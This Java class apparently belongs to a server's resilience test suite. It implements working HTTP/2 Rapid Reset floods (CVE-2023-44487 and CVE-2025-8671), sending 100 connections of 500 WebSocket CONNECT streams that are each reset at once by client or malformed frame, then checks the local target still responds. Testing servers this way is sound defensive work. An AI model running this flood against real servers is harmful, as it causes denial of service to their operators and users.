package io.parley.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * Streams of HTTP/2 that ask for a WebSocket and are reset at once: by the client (CVE-2023-44487),
 * and in every other round by the server, because the next frame is wrong (CVE-2025-8671).
 */
final class RapidResets implements Attack {
  private static final int CONNECTIONS = 100;

  /** Of each connection; more than a second allows. */
  private static final int STREAMS = 500;

  /**
   * Milliseconds for a round. A server that is so slow that few are reset in a second ends none.
   */
  private static final long ROUND = 20_000;

  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  private static final int HEADERS = 1;
  private static final int END_HEADERS = 4;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int WINDOW_UPDATE = 8;
  private static final int CANCEL = 8;

  @Override
  public String name() {
    return "rapid-resets";
  }

  @Override
  public List<String> arguments() {
    return List.of("--h2c");
  }

  @Override
  public void run(Scene scene) throws Exception {
    byte[] reset = reset(scene.port());
    byte[] provoked = provoked(scene.port());
    int rounds = scene.of(2, 20);
    for (int round = 0; round < rounds; round++) {
      strike(scene.port(), round % 2 == 0 ? reset : provoked);
    }
    scene.check(scene.target().ready(), "it is not ready after the attack");
  }

  private static void strike(int port, byte[] bytes) throws IOException {
    try (Swarm swarm = new Swarm(port, CONNECTIONS, 10)) {
      swarm.give(bytes, 1);
      long end = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(ROUND);
      while (swarm.ended() < CONNECTIONS && System.nanoTime() < end) {
        swarm.pump(20);
      }
    }
  }

  private static byte[] reset(int port) {
    return connection(port, RST_STREAM, CANCEL);
  }

  /** A window cannot grow by 0 (RFC 9113 6.9). */
  private static byte[] provoked(int port) {
    return connection(port, WINDOW_UPDATE, 0);
  }

  /** All that one connection sends: each stream has a request, and a frame with a number. */
  private static byte[] connection(int port, int type, int number) {
    byte[] request = request(port);
    byte[] payload = ByteBuffer.allocate(Integer.BYTES).putInt(number).array();
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    all.writeBytes(PREFACE.getBytes(StandardCharsets.US_ASCII));
    all.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
    for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
      all.writeBytes(frame(HEADERS, END_HEADERS, stream, request));
      all.writeBytes(frame(type, 0, stream, payload));
    }
    return all.toByteArray();
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) 0)
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  /** An opening handshake (RFC 8441), as literals without indexing (RFC 7541 6.2.2). */
  private static byte[] request(int port) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    field(block, ":method", "CONNECT");
    field(block, ":protocol", "websocket");
    field(block, ":scheme", "http");
    field(block, ":path", "/echo");
    field(block, ":authority", "localhost:" + port);
    field(block, "sec-websocket-version", "13");
    return block.toByteArray();
  }

  private static void field(ByteArrayOutputStream block, String name, String value) {
    block.write(0);
    literal(block, name);
    literal(block, value);
  }

  /** Fewer than 127 characters, without Huffman coding. */
  private static void literal(ByteArrayOutputStream block, String text) {
    byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
    block.write(bytes.length);
    block.writeBytes(bytes);
  }
}
